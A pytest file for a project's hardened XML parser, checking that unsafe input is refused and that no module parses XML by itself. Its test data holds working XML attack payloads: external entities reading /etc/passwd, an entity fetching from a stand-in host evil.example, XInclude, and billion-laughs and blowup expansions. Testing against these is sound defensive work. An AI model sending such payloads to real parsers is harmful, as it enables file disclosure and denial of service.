"""XML from outside: read, or refused; never unfolded, fetched or followed. And nobody has a parser of their own."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

import pressroom
from pressroom.kit import xml

LAUGHS = "<!DOCTYPE x [<!ENTITY a 'haha'>" + "".join(
    f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)


def test_what_is_plain_is_read() -> None:
    root = xml.parse("<?xml version='1.0'?><a><!-- x --><b>é &amp; &#233;</b><?php evil?></a>".encode())
    assert [str(child.tag) for child in root] == ["b"]
    assert root[0].text == "é & é"


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"<a",
        b"<a>&undefined;</a>",
        b"<!DOCTYPE a><a/>",
        b"<!doctype a><a/>",
        b"<!DOCTYPE a SYSTEM 'http://evil.example/a.dtd'><a/>",
        b"<!DOCTYPE a PUBLIC '-//x//y' 'file:///etc/passwd'><a/>",
        b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
        b"<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://evil.example/x'> %x;]><a/>",
        b"<!DOCTYPE a [<!ATTLIST a href CDATA 'javascript:1'>]><a/>",
        f"{LAUGHS}]><x>&i;</x>".encode(),
        f"{LAUGHS}]><x a='&i;'/>".encode(),
        ("<!DOCTYPE a [<!ENTITY x '" + "y" * 50_000 + "'>]><a>" + "&x;" * 2_000 + "</a>").encode(),
        "<?xml version='1.0' encoding='utf-16'?><!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>".encode("utf-16"),
        b"<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd' parse='text'/></a>",
        b"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='x'/>",
        b"<a>" * 150 + b"</a>" * 150,
        b"<a>" * 100_000,
        b"<r>" + b"<a/>" * 25_000 + b"</r>",
        b"<a>\0</a>",
        b"<a b='1' b='2'/>",
    ],
)
def test_what_is_more_than_plain_is_refused(content: bytes) -> None:
    with pytest.raises(xml.RefusedXMLError):
        xml.parse(content)


def test_a_document_type_that_may_stand_there_brings_nothing_in() -> None:
    content = b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'><!ENTITY y 'yyy'>]><a>1&x;2&y;3</a>"
    root = xml.parse(content, doctype=True)
    assert "".join(text for text in root.itertext() if not text.startswith("&")) == "123"
    with pytest.raises(xml.RefusedXMLError):
        xml.parse(f"{LAUGHS}]><x a='&i;'/>".encode(), doctype=True)


OWN = {
    "kit/xml.py": "the one",
    "kit/syndication/prose.py": "reads HTML that we made",
    "kit/syndication/xml.py": "writes, and reads nothing",
    "kit/syndication/media.py": "writes, and reads nothing",
    "kit/syndication/podcast.py": "writes, and reads nothing",
    "releases/newsml.py": "writes, and reads nothing",
    "freezing/pages.py": "reads HTML that we made",
    "freezing/links.py": "reads HTML that we made",
    "freezing/feeds.py": "reads feeds that we made",
    "freezing/site_maps.py": "reads site maps that we made, of 50,000 addresses",
    "pages/rules.py": "reads HTML that we made",
    "clips/gathering/opml.py": "writes; what it reads is read by the one",
    "kit/feedreading/mails.py": "reads HTML, which has no entities of its own",
    "kit/feedreading/parsing.py": "reads in a process with limits, one entry at a time, without types or entities",
    "kit/workbooks.py": "reads as a stream, and refuses types, depth and size by itself",
    "clips/gathering/pages.py": "reads HTML, which has no entities of its own",
    "clips/gathering/wordpress.py": "reads HTML, which has no entities of its own",
    "clips/links/reading.py": "reads HTML, which has no entities of its own",
    "clips/snapshots/cleaning.py": "reads HTML, which has no entities of its own",
    "releases/importing/wxr.py": "reads as a stream, and refuses types, entities and depth by itself",
    "releases/importing/fromhtml.py": "reads HTML, which has no entities of its own",
    "media/drawings.py": "handles a tree that the one has read",
    "media/xmp.py": "handles a tree that the one has read",
}


def test_nobody_has_a_parser_of_their_own() -> None:
    folder = Path(pressroom.__file__).parent
    parsers = re.compile(r"\b(XMLParser|XMLPullParser|iterparse|fromstring|minidom|ElementTree|expat)")
    reads = re.compile(r"^\s*(?:from|import)\s+(?:lxml|xml\.(?!sax\.saxutils))", re.MULTILINE)
    for file in folder.rglob("*.py"):
        name, content = file.relative_to(folder).as_posix(), file.read_text("utf-8")
        if reads.search(content):
            assert name in OWN, f"{name}: read XML by pressroom.kit.xml.parse"
        if parsers.search(content) and "a tree that the one has read" in OWN.get(name, ""):
            raise AssertionError(f"{name} parses by itself")
